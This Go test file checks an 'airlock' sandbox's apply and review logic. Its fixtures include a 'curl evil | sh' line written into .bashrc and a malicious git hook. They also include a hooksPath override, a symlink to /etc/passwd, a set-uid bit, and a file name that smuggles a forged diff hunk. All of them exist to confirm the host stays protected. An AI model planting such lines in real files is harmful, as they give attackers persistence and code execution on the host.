package workspace

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

var testProtected = []string{".bashrc", ".git/config", ".git/hooks", ".mcp.json"}

func write(t testing.TB, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func read(t testing.TB, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Errorf("read %s: %v", path, err)
	}
	return string(b)
}

// newRun gives the test a private changes root and a fresh workspace.
func newRun(t testing.TB, _ string) (*Run, string) {
	t.Helper()
	t.Setenv("AIRLOCK_CHANGES_DIR", filepath.Join(t.TempDir(), "changes"))
	return nil, t.TempDir()
}

func create(t testing.TB, id, ws string) *Run {
	t.Helper()
	r, err := Create(id, ws, testProtected, []string{"true"})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(r.Close)
	return r
}

// whiteout makes an overlay whiteout (a 0/0 character device): root only.
func whiteout(t testing.TB, path string) {
	t.Helper()
	if err := unix.Mknod(path, unix.S_IFCHR|0o600, 0); err != nil {
		t.Fatal(err)
	}
}

func needRoot(t testing.TB) {
	if os.Geteuid() != 0 {
		t.Skip("whiteouts are character devices: making them needs root")
	}
}

// tick waits until the coarse clock that stamps files has moved past the
// run's start, so that a host change made now is later than the start.
func tick(t testing.TB, r *Run) {
	t.Helper()
	for i := 0; i < 1000; i++ {
		p := filepath.Join(r.Dir, "tick")
		os.WriteFile(p, nil, 0o600)
		var st unix.Stat_t
		unix.Stat(p, &st)
		if st.Ctim.Nano() > r.StartNS {
			return
		}
		time.Sleep(time.Millisecond)
	}
	t.Fatal("the file clock did not move")
}

func TestApply(t *testing.T) {
	needRoot(t)
	_, ws := newRun(t, "")
	write(t, filepath.Join(ws, "mod.txt"), "old\n")
	write(t, filepath.Join(ws, "del.txt"), "bye\n")
	write(t, filepath.Join(ws, "deldir/a/b.txt"), "b\n")
	write(t, filepath.Join(ws, "opq/x"), "x\n")
	write(t, filepath.Join(ws, "opq/y"), "y\n")
	write(t, filepath.Join(ws, "mode.sh"), "#!/bin/sh\n")
	write(t, filepath.Join(ws, "both.txt"), "host-old\n")
	write(t, filepath.Join(ws, ".bashrc"), "# rc\n")
	os.Chown(filepath.Join(ws, "mod.txt"), 1234, 1234)
	os.Chown(ws, 4321, 4321)
	r := create(t, "00000000000000a1", ws)
	up := r.Upper()
	write(t, filepath.Join(up, "mod.txt"), "new\n")
	write(t, filepath.Join(up, "new/deep/file.txt"), "fresh\n")
	whiteout(t, filepath.Join(up, "del.txt"))
	whiteout(t, filepath.Join(up, "deldir"))
	write(t, filepath.Join(up, "opq/z"), "z\n")
	if err := unix.Setxattr(filepath.Join(up, "opq"), "user.overlay.opaque", []byte("y"), 0); err != nil {
		t.Skipf("the changes directory has no user extended attributes: %v", err)
	}
	write(t, filepath.Join(up, "mode.sh"), "#!/bin/sh\n")
	os.Chmod(filepath.Join(up, "mode.sh"), 0o4755) // set-uid never lands
	os.Symlink("../../etc/passwd", filepath.Join(up, "link"))
	write(t, filepath.Join(up, "both.txt"), "sandbox\n")
	write(t, filepath.Join(up, ".bashrc"), "curl evil | sh\n")
	write(t, filepath.Join(up, ".git/hooks/pre-commit"), "#!/bin/sh\nevil\n")
	write(t, filepath.Join(up, ".git/config"), "[core]\nhooksPath=/tmp\n")
	write(t, filepath.Join(up, ".git/HEAD"), "ref: refs/heads/main\n")
	write(t, filepath.Join(up, ".mcp.json"), "{}\n")
	// The host changes both.txt during the run.
	tick(t, r)
	write(t, filepath.Join(ws, "both.txt"), "host-new\n")

	rep, err := r.Apply()
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Errors) > 0 {
		t.Fatalf("errors: %v", rep.Errors)
	}
	if got := read(t, filepath.Join(ws, "mod.txt")); got != "new\n" {
		t.Errorf("mod.txt = %q", got)
	}
	var st unix.Stat_t
	if unix.Stat(filepath.Join(ws, "mod.txt"), &st); st.Uid != 1234 {
		t.Errorf("mod.txt owner %d, want its host owner 1234", st.Uid)
	}
	if got := read(t, filepath.Join(ws, "new/deep/file.txt")); got != "fresh\n" {
		t.Errorf("new file = %q", got)
	}
	for _, p := range []string{"new", "new/deep", "new/deep/file.txt", "link"} {
		if unix.Lstat(filepath.Join(ws, p), &st); st.Uid != 4321 || st.Gid != 4321 {
			t.Errorf("%s owned by %d:%d, want the workspace's 4321:4321", p, st.Uid, st.Gid)
		}
	}
	for _, p := range []string{"del.txt", "deldir", "opq/x", "opq/y"} {
		if _, err := os.Lstat(filepath.Join(ws, p)); err == nil {
			t.Errorf("%s still on the host", p)
		}
	}
	if got := read(t, filepath.Join(ws, "opq/z")); got != "z\n" {
		t.Errorf("opq/z = %q", got)
	}
	if fi, err := os.Stat(filepath.Join(ws, "mode.sh")); err != nil || fi.Mode()&(os.ModeSetuid|0o777) != 0o755 {
		t.Errorf("mode.sh mode %v, %v; want 0755 without set-uid", fi.Mode(), err)
	}
	if l, err := os.Readlink(filepath.Join(ws, "link")); err != nil || l != "../../etc/passwd" {
		t.Errorf("link = %q, %v", l, err)
	}
	// Protected: kept aside, the host's untouched.
	if got := read(t, filepath.Join(ws, ".bashrc")); got != "# rc\n" {
		t.Errorf(".bashrc on the host = %q", got)
	}
	for _, p := range []string{".git/hooks", ".git/config", ".mcp.json"} {
		if _, err := os.Lstat(filepath.Join(ws, p)); err == nil {
			t.Errorf("protected %s reached the host", p)
		}
	}
	if got := read(t, filepath.Join(ws, ".git/HEAD")); got != "ref: refs/heads/main\n" {
		t.Errorf("control: .git/HEAD = %q", got)
	}
	if got := read(t, filepath.Join(r.Kept(), ".git/hooks/pre-commit")); !strings.Contains(got, "evil") {
		t.Errorf("kept hook = %q", got)
	}
	for _, p := range []string{".bashrc", ".git/config", ".git/hooks", ".mcp.json"} {
		if !slices.Contains(rep.Kept, p) {
			t.Errorf("%s not reported kept: %v", p, rep.Kept)
		}
	}
	// Conflict: host's version stays, the sandbox's is aside.
	if got := read(t, filepath.Join(ws, "both.txt")); got != "host-new\n" {
		t.Errorf("both.txt on the host = %q, want the host's", got)
	}
	if got := read(t, filepath.Join(r.Conflicts(), "both.txt")); got != "sandbox\n" {
		t.Errorf("conflicts/both.txt = %q", got)
	}
	if !slices.Contains(rep.Conflicts, "both.txt") {
		t.Errorf("both.txt not reported as a conflict: %v", rep.Conflicts)
	}
	// A second apply finds nothing left.
	rep2, err := r.Apply()
	if err != nil || !rep2.Empty() {
		t.Errorf("second apply: %+v, %v", rep2, err)
	}
	if err := r.Finish(rep); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(r.Layer()); err == nil {
		t.Error("layer left after Finish")
	}
	if _, err := os.Stat(r.Kept()); err != nil {
		t.Errorf("kept files removed by Finish: %v", err)
	}
}

// A host symlink never makes apply write outside the workspace: not one
// that was there before (replaced by the sandbox's directory), not one
// planted during the run (a conflict), not one the sandbox made.
func TestApplyHostLink(t *testing.T) {
	_, ws := newRun(t, "")
	outside := t.TempDir()
	write(t, filepath.Join(outside, "keep"), "outside\n")
	if err := os.Symlink(outside, filepath.Join(ws, "before")); err != nil {
		t.Fatal(err)
	}
	r := create(t, "00000000000000a2", ws)
	up := r.Upper()
	write(t, filepath.Join(up, "before/keep"), "through the link\n")
	write(t, filepath.Join(up, "planted/keep"), "through the link\n")
	write(t, filepath.Join(up, "planted2"), "through the link\n")
	os.Symlink(outside, filepath.Join(up, "made"))
	write(t, filepath.Join(up, "made2/keep"), "x\n")
	tick(t, r)
	os.Symlink(outside, filepath.Join(ws, "planted"))
	os.Symlink(filepath.Join(outside, "keep"), filepath.Join(ws, "planted2"))

	rep, err := r.Apply()
	if err != nil {
		t.Fatal(err)
	}
	if got := read(t, filepath.Join(outside, "keep")); got != "outside\n" {
		t.Fatalf("apply wrote outside the workspace: %q", got)
	}
	if entries, _ := os.ReadDir(outside); len(entries) != 1 {
		t.Errorf("outside has %d entries", len(entries))
	}
	// Control: the sandbox's directory replaced the old link.
	if got := read(t, filepath.Join(ws, "before/keep")); got != "through the link\n" {
		t.Errorf("before/keep = %q", got)
	}
	for _, p := range []string{"planted", "planted2"} {
		if !slices.Contains(rep.Conflicts, p) {
			t.Errorf("%s not a conflict: %v", p, rep.Conflicts)
		}
	}
	if l, _ := os.Readlink(filepath.Join(ws, "made")); l != outside {
		t.Errorf("made = %q", l)
	}
}

func TestApplyNothing(t *testing.T) {
	_, ws := newRun(t, "")
	write(t, filepath.Join(ws, "a"), "a\n")
	r := create(t, "00000000000000a3", ws)
	rep, err := r.Apply()
	if err != nil || !rep.Empty() {
		t.Fatalf("apply of an empty layer: %+v, %v", rep, err)
	}
	if err := r.Finish(rep); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(r.Dir); err == nil {
		t.Error("run directory left after an empty apply")
	}
	if got := read(t, filepath.Join(ws, "a")); got != "a\n" {
		t.Errorf("a = %q", got)
	}
	// Bad ids and unknown runs are errors.
	if _, err := Open("../../etc"); err == nil {
		t.Error("Open accepted a path")
	}
	if _, err := Open("00000000000000ff"); err == nil {
		t.Error("Open of an unknown run succeeded")
	}
}

// A run another airlock holds cannot be opened.
func TestRunBusy(t *testing.T) {
	_, ws := newRun(t, "")
	r := create(t, "00000000000000a4", ws)
	if _, err := Open(r.ID); err == nil {
		t.Fatal("opened a run that is held")
	}
	r.Close()
	r2, err := Open(r.ID)
	if err != nil {
		t.Fatalf("control: %v", err)
	}
	r2.Close()
}

func BenchmarkApplyEmpty(b *testing.B) {
	b.Setenv("AIRLOCK_CHANGES_DIR", filepath.Join(b.TempDir(), "changes"))
	ws := b.TempDir()
	for i := 0; i < b.N; i++ {
		r, err := Create(newTestID(i), ws, testProtected, nil)
		if err != nil {
			b.Fatal(err)
		}
		rep, err := r.Apply()
		if err != nil {
			b.Fatal(err)
		}
		if err := r.Finish(rep); err != nil {
			b.Fatal(err)
		}
	}
}

func newTestID(i int) string {
	const hexd = "0123456789abcdef"
	b := []byte("b000000000000000")
	for j := 15; j > 0 && i > 0; j-- {
		b[j] = hexd[i%16]
		i /= 16
	}
	return string(b)
}

// Changes lists what Apply would do, without doing it.
func TestReviewChanges(t *testing.T) {
	needRoot(t)
	_, ws := newRun(t, "")
	write(t, filepath.Join(ws, "mod.txt"), "a\nb\n")
	write(t, filepath.Join(ws, "same.txt"), "same\n")
	write(t, filepath.Join(ws, "del.txt"), "x\n")
	write(t, filepath.Join(ws, "bin"), "\x00\x01")
	os.Symlink("old", filepath.Join(ws, "ln"))
	r := create(t, "00000000000000a5", ws)
	up := r.Upper()
	write(t, filepath.Join(up, "mod.txt"), "a\nc\n")
	write(t, filepath.Join(up, "same.txt"), "same\n")
	os.Chmod(filepath.Join(up, "same.txt"), 0o600)
	whiteout(t, filepath.Join(up, "del.txt"))
	write(t, filepath.Join(up, "bin"), "\x00\x02")
	os.Symlink("new", filepath.Join(up, "ln"))
	write(t, filepath.Join(up, "add/n.txt"), "n\n")
	write(t, filepath.Join(up, ".bashrc"), "evil\n")
	changes, err := r.Changes(true)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]Change{}
	for _, c := range changes {
		got[c.Path] = c
	}
	for p, k := range map[string]string{"mod.txt": "modified", "same.txt": "mode", "del.txt": "deleted", "bin": "modified", "ln": "symlink", "add/": "added", "add/n.txt": "added", ".bashrc": "kept"} {
		if got[p].Kind != k {
			t.Errorf("%s: %q, want %q (all %+v)", p, got[p].Kind, k, changes)
		}
	}
	if d := got["mod.txt"].Diff; !strings.Contains(d, "-b\n+c\n") {
		t.Errorf("mod.txt diff:\n%s", d)
	}
	if !got["bin"].Binary || got["bin"].Diff != "" {
		t.Errorf("bin: %+v, want binary without a diff", got["bin"])
	}
	if got["ln"].OldTarget != "old" || got["ln"].NewTarget != "new" {
		t.Errorf("ln: %+v", got["ln"])
	}
	// Nothing was applied.
	if got := read(t, filepath.Join(ws, "mod.txt")); got != "a\nb\n" {
		t.Errorf("Changes changed mod.txt: %q", got)
	}
	if _, err := os.Stat(filepath.Join(up, "mod.txt")); err != nil {
		t.Errorf("Changes consumed the upper layer: %v", err)
	}
}

// A directory the sandbox replaced by a file, with a file under it changed
// on the host: the host's changed file stays, and the sandbox's file is kept
// with the conflicts (it was dropped, and the report named a conflicts
// directory that did not exist). The control: the same replacement with no
// host change lands.
func TestApplyDirReplacedByFileConflict(t *testing.T) {
	needRoot(t)
	for _, hostEdit := range []bool{true, false} {
		_, ws := newRun(t, "")
		write(t, filepath.Join(ws, "d/f"), "f\n")
		write(t, filepath.Join(ws, "d/sub/g"), "g\n")
		r := create(t, "00000000000000c1", ws)
		up := r.Upper()
		write(t, filepath.Join(up, "d"), "SANDBOX\n")
		if hostEdit {
			tick(t, r)
			write(t, filepath.Join(ws, "d/sub/g"), "host edit\n")
		}
		rep, err := r.Apply()
		if err != nil {
			t.Fatal(err)
		}
		if !hostEdit {
			if got := read(t, filepath.Join(ws, "d")); got != "SANDBOX\n" || len(rep.Conflicts) != 0 {
				t.Errorf("control: d = %q, conflicts %v", got, rep.Conflicts)
			}
			continue
		}
		if got := read(t, filepath.Join(ws, "d/sub/g")); got != "host edit\n" {
			t.Errorf("the host's changed file: %q", got)
		}
		if got := read(t, filepath.Join(r.Conflicts(), "d")); got != "SANDBOX\n" {
			t.Errorf("the sandbox's file among the conflicts: %q", got)
		}
		if !slices.Contains(rep.Conflicts, "d") {
			t.Errorf("conflicts %v do not name d", rep.Conflicts)
		}
	}
}

// An apply interrupted after it saved a host file into its journal (a hard
// link, which moves the file's change time) and resumed: the file is
// applied, not taken for a change of the host's (the retry reported a
// conflict and left it unapplied). The control: a host edit made after
// the interruption is still a conflict.
func TestApplyResumedAfterSave(t *testing.T) {
	needRoot(t)
	for _, hostEdit := range []bool{false, true} {
		_, ws := newRun(t, "")
		write(t, filepath.Join(ws, "d/f"), "host-orig\n")
		r := create(t, "00000000000000c2", ws)
		write(t, filepath.Join(r.Upper(), "d/f"), "sandbox-new\n")
		tick(t, r)
		// The first attempt saved d/f and stopped there.
		j, err := r.openJournal()
		if err != nil {
			t.Fatal(err)
		}
		d, err := unix.Open(filepath.Join(ws, "d"), unix.O_RDONLY|unix.O_DIRECTORY, 0)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := j.before(d, "f", "d/f"); err != nil {
			t.Fatal(err)
		}
		unix.Close(d)
		j.close()
		want := "sandbox-new\n"
		if hostEdit {
			tick(t, r)
			write(t, filepath.Join(ws, "d/f"), "host-edit\n")
			want = "host-edit\n"
		}
		rep, err := r.Apply()
		if err != nil {
			t.Fatal(err)
		}
		if got := read(t, filepath.Join(ws, "d/f")); got != want || (len(rep.Conflicts) > 0) != hostEdit {
			t.Errorf("host edit %v: d/f = %q, conflicts %v", hostEdit, got, rep.Conflicts)
		}
	}
}

// A file name with a newline cannot add lines to its diff: the header
// quotes it, as git does, and the diff has the one hunk the content makes
// (a name ending in "\n@@ -0,0 +1 @@\n+echo hello" forged a second one).
// The control: a plain name is written as it is.
func TestDiffHeaderQuotesNames(t *testing.T) {
	needRoot(t)
	_, ws := newRun(t, "")
	r := create(t, "00000000000000a6", ws)
	forged := "run.sh\n@@ -0,0 +1 @@\n+echo hello"
	write(t, filepath.Join(r.Upper(), forged), "curl evil | sh\n")
	write(t, filepath.Join(r.Upper(), "plain.txt"), "x\n")
	changes, err := r.Changes(true)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range changes {
		switch c.Path {
		case forged:
			hunks := 0
			for _, l := range strings.Split(c.Diff, "\n") {
				if strings.HasPrefix(l, "@@") {
					hunks++
				}
			}
			if hunks != 1 || !strings.Contains(c.Diff, `+++ "b/run.sh\n@@ -0,0 +1 @@\n+echo hello"`) {
				t.Errorf("diff of the forged name:\n%s", c.Diff)
			}
		case "plain.txt":
			if !strings.Contains(c.Diff, "+++ b/plain.txt\n") {
				t.Errorf("diff of a plain name:\n%s", c.Diff)
			}
		}
	}
}
